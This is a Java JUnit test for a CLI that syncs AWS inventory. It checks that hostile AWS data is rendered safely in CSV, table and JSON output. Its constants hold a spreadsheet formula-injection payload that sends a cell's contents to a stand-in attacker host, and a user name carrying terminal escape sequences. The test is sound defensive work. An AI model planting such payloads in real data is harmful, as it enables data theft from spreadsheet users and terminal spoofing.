package io.rolecall.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.rolecall.render.ControlChars;
import io.rolecall.render.Csv;
import io.rolecall.render.Json;
import io.rolecall.sandbox.service.ec2.LaunchSpec;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * SPEC §5, data from AWS is hostile: an EC2 Name tag that is a spreadsheet formula, a CloudTrail user name carrying
 * terminal escapes. Synced into the store and listed: CSV cells are text, tables hold no control character, JSON is
 * exact.
 */
class HostileDataCliTest {
  static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  static final String ESCAPES = "bob\u001b]0;owned\u0007\u001b[2J\u202e";

  @TempDir
  Path dir;

  @Test
  void formulasAndTerminalEscapesFromAwsAreNeutralizedInCsvAndTablesAndExactInJson() throws Exception {
    try (var e = new SandboxEngine(dir)) {
      String account = SandboxEngine.TRUSTING.getFirst();
      e.sb.account(account).ec2("us-east-1").launchInstance(LaunchSpec.instance().tag("Name", FORMULA));
      e.sb.account(account).cloudTrail("us-east-1").record("CreateUser", "iam.amazonaws.com", Instant.now(), ESCAPES,
          false, Map.of());
      var sync = e.run("--region", "us-east-1", "inventory", "sync", "--accounts", account);
      assertThat(sync.exit()).as(sync.all()).isZero();

      var csv = e.run("--region", "us-east-1", "-o", "csv", "inventory", "list", "instances");
      assertThat(csv.exit()).as(csv.all()).isZero();
      assertThat(csv.out()).contains("'=HYPERLINK(").doesNotContain("," + FORMULA).doesNotContain(",\"=");
      for (String line : csv.out().lines().toList()) {
        for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
          String value = cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
          assertThat(Csv.startsLikeFormula(value)).as(cell).isFalse();
        }
      }

      for (var table : new CliRun[] {e.run("--region", "us-east-1", "inventory", "list", "events"),
          e.run("--region", "us-east-1", "inventory", "list", "instances")}) {
        assertThat(table.exit()).as(table.all()).isZero();
        assertThat(table.out().chars().filter(c -> c != '\n' && ControlChars.unsafe((char) c))).as(table.out()).isEmpty();
      }
      assertThat(e.run("--region", "us-east-1", "inventory", "list", "events").out())
          .contains("bob\\u001b]0;owned\\u0007\\u001b[2J\\u202e");

      var json = e.run("--region", "us-east-1", "-o", "json", "inventory", "list", "events");
      JsonNode events = Json.mapper().readTree(json.out());
      assertThat(events.findValuesAsText("username")).contains(ESCAPES);
      assertThat(json.out().chars().filter(c -> c == 0x1b || c == 0x07 || c == 0x202e)).isEmpty();
    }
  }
}
